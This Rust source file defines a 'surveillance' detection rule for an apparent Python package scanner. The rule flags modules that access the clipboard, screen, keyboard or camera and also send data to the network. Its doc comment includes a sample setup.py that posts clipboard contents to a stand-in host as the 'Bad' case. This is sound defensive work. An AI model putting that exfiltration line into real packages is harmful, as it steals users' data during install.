//! ## What it detects
//!
//! Clipboard, screen, keyboard or camera, in a module that also sends to the network.
//!
//! ## Why it is bad
//!
//! It is spyware unless the package says that this is its purpose.
//!
//! ## Innocent lookalikes
//!
//! Automation and support tools; their code runs when called.
//!
//! ## Bad
//!
//! ```python setup.py
//! import pyperclip, requests
//! requests.post('http://x.example.invalid', data=pyperclip.paste())
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import pyperclip
//! print(pyperclip.paste())
//! ```

use fondaco_python::Api;
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("surveillance"),
    title: "watches the user and sends it",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Surveillance),
    weight: 1.2,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for unit in package.units() {
        let sends = unit.calls.iter().any(|call| call.api == Some(Api::NetworkSend));
        for call in unit.calls.iter().filter(|call| sends && call.api == Some(Api::Surveillance)) {
            hits.call(unit, call, format!("{} in a module that sends to the network", call.callee));
        }
    }
}
